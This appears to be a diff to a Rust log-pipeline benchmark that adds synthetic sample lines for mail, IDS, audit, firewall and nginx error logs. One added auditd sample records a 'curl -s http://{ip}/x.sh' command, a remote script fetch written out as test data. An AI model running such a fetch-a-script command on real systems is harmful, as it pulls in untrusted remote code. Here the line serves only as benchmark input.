@@ -60,16 +60,62 @@ fn sample_line(kind: usize, i: usize) -> String {
             syslog_time(),
             2000 + i % 5000
         ),
-        _ => format!(
+        3 => format!(
             r#"{{"time":"{}","level":"info","msg":"request served","client_ip":"{ip}","user":"svc{}","latency_ms":{}}}"#,
             Utc::now().to_rfc3339(),
             i % 50,
             i % 300
         ),
+        4 => format!(
+            "{} mail-1 postfix/smtpd[{}]: warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
+            syslog_time(),
+            3000 + i % 5000
+        ),
+        5 => format!(
+            "{} mail-1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<user{}>, method=PLAIN, rip={ip}, lip=192.0.2.25, TLS, session=<abc{}>",
+            syslog_time(),
+            i % 97,
+            i % 1000
+        ),
+        6 => format!(
+            r#"{{"timestamp":"{}","flow_id":{},"in_iface":"eth0","event_type":"alert","src_ip":"{ip}","src_port":{},"dest_ip":"192.0.2.80","dest_port":80,"proto":"TCP","alert":{{"action":"allowed","gid":1,"signature_id":{},"rev":1,"signature":"ET SCAN Suspicious inbound","category":"Attempted Information Leak","severity":2}}}}"#,
+            Utc::now().format("%Y-%m-%dT%H:%M:%S%.6f%z"),
+            1_000_000 + i,
+            20000 + i % 40000,
+            2_000_000 + i % 50
+        ),
+        7 => format!(
+            r#"type=EXECVE msg=audit({}.{:03}:{}): argc=3 a0="curl" a1="-s" a2="http://{ip}/x.sh""#,
+            Utc::now().timestamp(),
+            i % 1000,
+            10_000 + i
+        ),
+        8 => format!(
+            "{} fw-1 kernel: [12345.678] IN=eth0 OUT= MAC=00:00:00:00:00:00:00:00:00:00:00:00:08:00 SRC={ip} DST=192.0.2.1 LEN=44 TOS=0x00 PREC=0x00 TTL=50 ID=0 PROTO=TCP SPT={} DPT={} WINDOW=1024 RES=0x00 SYN URGP=0",
+            syslog_time(),
+            20000 + i % 40000,
+            1 + i % 1024
+        ),
+        _ => format!(
+            "2026/03/12 10:00:00 [error] 1234#0: *{} user \"user{}\" was not found in \"/etc/nginx/.htpasswd\", client: {ip}, server: example.com, request: \"GET /admin HTTP/1.1\", host: \"example.com\"",
+            i,
+            i % 97
+        ),
     }
 }
 
-const KINDS: [&str; 4] = ["sshd", "nginx access", "syslog (cron/pam)", "json"];
+const KINDS: [&str; 10] = [
+    "sshd",
+    "nginx access",
+    "syslog (cron/pam)",
+    "json",
+    "postfix",
+    "dovecot",
+    "suricata eve",
+    "auditd",
+    "iptables",
+    "nginx error",
+];
 
 fn records(lines: &[String]) -> Vec<Record> {
     let now = Utc::now().timestamp_millis();
@@ -132,17 +178,17 @@ pub async fn run(args: BenchArgs) -> Result<()> {
     println!("## chain: normalize + filter (wasm, one thread, batches of 1000)");
     let mut mixed = Vec::with_capacity(args.lines);
     for (kind, name) in KINDS.iter().enumerate() {
-        let lines: Vec<String> = (0..args.lines / 4).map(|i| sample_line(kind, i)).collect();
+        let per_kind = args.lines / 4;
+        let lines: Vec<String> = (0..per_kind).map(|i| sample_line(kind, i)).collect();
         let (r2, c2) = (registry.clone(), chain.clone());
         let (rate, kept) =
             tokio::task::spawn_blocking(move || chain_rate(&r2, &c2, &lines)).await??;
         println!(
-            "{name:>20}: {rate:>10.0} lines/s (filter kept {kept} of {})",
-            args.lines / 4
+            "{name:>20}: {rate:>10.0} lines/s (filter kept {kept} of {per_kind})"
         );
     }
     for i in 0..args.lines {
-        mixed.push(sample_line(i % 4, i));
+        mixed.push(sample_line(i % KINDS.len(), i));
     }
     let (r2, c2, m2) = (registry.clone(), chain.clone(), mixed.clone());
     let (rate, kept) = tokio::task::spawn_blocking(move || chain_rate(&r2, &c2, &m2)).await??;
